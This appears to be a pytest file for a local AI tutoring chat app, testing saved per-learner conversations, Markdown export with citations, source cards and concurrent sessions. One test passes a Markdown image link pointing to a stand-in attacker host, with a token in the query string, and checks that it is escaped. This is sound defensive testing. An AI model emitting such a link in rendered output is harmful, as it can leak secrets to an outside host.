"""The chat page as a learner's home: saved conversations, source cards, and many sessions on one local model."""

from __future__ import annotations

import threading
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta

import pytest
from streamlit.testing.v1 import AppTest

from assistant.conversations import ConversationStore, title_of, to_markdown
from assistant.errors import TutorError
from tests.conftest import REPO, ingest_folder, use_fake_server

PAGE = str(REPO / "ui" / "pages" / "chat.py")
ANSWER = "Wrap the model in a FastAPI service and package it with Docker [1]."


@pytest.fixture
def page_env(monkeypatch, openai_settings, fake_openai, mini_corpus, embedder):
    use_fake_server(monkeypatch, openai_settings, fake_openai)
    ingest_folder(openai_settings, mini_corpus, embedder)
    fake_openai.responder = lambda body: ANSWER
    return openai_settings


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input[0].set_value(question).run()
    assert not at.exception, at.exception
    return at


# -- the store ------------------------------------------------------------------------------------------
def test_conversations_are_kept_per_learner_in_order_of_use(tmp_path):
    mine, theirs = ConversationStore(tmp_path / "c.db", "me"), ConversationStore(tmp_path / "c.db", "you")
    t0 = datetime(2026, 12, 1, tzinfo=UTC)
    first, second = mine.create(now=t0), mine.create("Second", now=t0 + timedelta(minutes=1))
    mine.add_turns(
        first.id,
        [{"role": "user", "content": "q"}, {"role": "assistant", "content": "a"}],
        now=t0 + timedelta(minutes=2),
    )
    assert [c.id for c in mine.recent()] == [first.id, second.id]  # the one used last comes first
    assert [t["content"] for t in mine.get(first.id).turns] == ["q", "a"]
    assert theirs.recent() == []
    with pytest.raises(TutorError):
        theirs.get(first.id)  # another learner's chat is not theirs to read
    mine.rename(first.id, "  Deploying   a model ")
    assert mine.get(first.id).title == "Deploying a model"
    mine.delete(first.id)
    assert [c.id for c in mine.recent()] == [second.id]
    with pytest.raises(TutorError, match="no longer exists"):
        mine.get(first.id)


def test_export_is_markdown_with_each_answers_sources():
    from assistant.conversations import Conversation

    now = datetime.now(UTC)
    convo = Conversation(id="x", title="Deploying", created=now, updated=now)
    convo.turns = [
        {"role": "user", "content": "How do I deploy a model?"},
        {
            "role": "assistant",
            "content": ANSWER,
            "answer": {"citations": [{"n": 1, "source": "deploy.md", "heading_path": "Deploy > Serving", "url": ""}]},
        },
    ]
    text = to_markdown(convo)
    assert text.startswith("# Deploying\n") and "**You:** How do I deploy a model?" in text
    assert f"**Tutor:** {ANSWER}" in text and "- [1] deploy.md — Deploy > Serving" in text
    assert title_of("x " * 80).endswith("...") and len(title_of("x " * 80)) <= 63


# -- the page -------------------------------------------------------------------------------------------
def test_a_conversation_survives_a_reload_and_a_new_chat_starts_empty(page_env):
    ask(AppTest.from_file(PAGE, default_timeout=60).run(), "How do I deploy a model?")
    reloaded = AppTest.from_file(PAGE, default_timeout=60).run()  # a new browser session: nothing in memory
    shown = [m.value for m in reloaded.markdown]
    assert "How do I deploy a model?" in shown and any("FastAPI" in m for m in shown)
    assert reloaded.sidebar.radio[0].options == ["How do I deploy a model?"]  # titled by its first question

    reloaded.sidebar.button[0].click().run()  # New chat
    assert not any("FastAPI" in m.value for m in reloaded.markdown)
    assert len(reloaded.sidebar.radio[0].options) == 2
    first = next(
        c.id
        for c in ConversationStore(page_env.chats_path, page_env.learner_id).recent()
        if c.turns == [] and c.title != "New chat"
    )
    reloaded.sidebar.radio[0].set_value(first).run()  # back to the first
    assert any("FastAPI" in m.value for m in reloaded.markdown)


def test_each_cited_source_opens_as_a_card_with_the_supporting_sentence_in_bold(page_env, fake_openai):
    fake_openai.responder = lambda body: "FastAPI exposes a prediction endpoint that loads the model once [1][2][3]."
    at = ask(AppTest.from_file(PAGE, default_timeout=60).run(), "How do I deploy a model?")
    cards = [e for e in at.expander if "deploy.md" in e.label]
    assert cards, [e.label for e in at.expander]
    bold = [m.value for c in cards for m in c.markdown if "**" in m.value]
    assert bold and "**Wrap the model in a small web service: FastAPI exposes" in bold[0]  # supporting, in bold


def test_labels_from_documents_show_as_written_never_as_images_or_links():
    from ui.render import plain_label

    label = plain_label("[1] notes.md — ![x](http://evil.example/c?q=TOKEN) [click](http://evil.example) **bold**")
    assert "![" not in label and "](" not in label and "**" not in label  # Markdown escaped, nothing fetched
    assert (
        label.replace("\\", "")
        == "[1] notes.md — ![x](http://evil.example/c?q=TOKEN) [click](http://evil.example) **bold**"
    )


def test_delete_removes_the_chat_and_another_is_opened(page_env):
    at = ask(AppTest.from_file(PAGE, default_timeout=60).run(), "How do I deploy a model?")
    delete = next(b for b in at.sidebar.button if b.label == "Delete this chat")
    delete.click().run()
    assert not at.exception
    assert not any("FastAPI" in m.value for m in at.markdown)
    assert ConversationStore(page_env.chats_path, page_env.learner_id).recent()[0].turns == []


# -- many sessions, one local model ---------------------------------------------------------------------
@pytest.mark.parametrize("sessions", [2, 5])
def test_concurrent_sessions_on_the_local_model_all_get_answers(sessions, make_settings, mini_corpus, embedder):
    """Sessions asking at once on the embedded model, each with its own Tutor as each app session has: before
    the one model worker, two of them aborted the whole server (GGML_ASSERT in ggml-cpu). Each gets its own
    checked answer, and the ledger one row per answer. (Streamlit's AppTest cannot run in several threads,
    so the sessions are driven at the library level the pages call.)"""
    from assistant.services import Tutor

    settings = make_settings(LOCAL_MODEL="qwen2.5-coder-0.5b", MAX_ANSWER_TOKENS=40)
    ingest_folder(settings, mini_corpus, embedder)
    questions = ["What maths do I need before deep learning?", "How do I deploy a model?"] * 3
    start = threading.Barrier(sessions)

    def session(i: int) -> tuple[str, str]:
        tutor = Tutor(settings)
        start.wait(timeout=300)
        if i % 2:
            answer = tutor.answers.ask(questions[i])
        else:
            handle = tutor.answers.ask_stream(questions[i])
            streamed = "".join(handle)
            assert handle.answer is not None and (streamed.strip() or handle.answer.declined)
            answer = handle.answer
        return answer.question, answer.text

    with ThreadPoolExecutor(sessions) as pool:
        results = list(pool.map(session, range(sessions)))
    assert [q for q, _ in results] == questions[:sessions]  # each session got the answer to its own question
    assert all(text.strip() for _, text in results)
    from assistant.accounting.ledger import Ledger

    rows = Ledger(settings.ledger_path).rows(kind="chat")
    assert len([r for r in rows if r.ok]) >= sessions and all(r.prompt_tokens > 0 for r in rows)
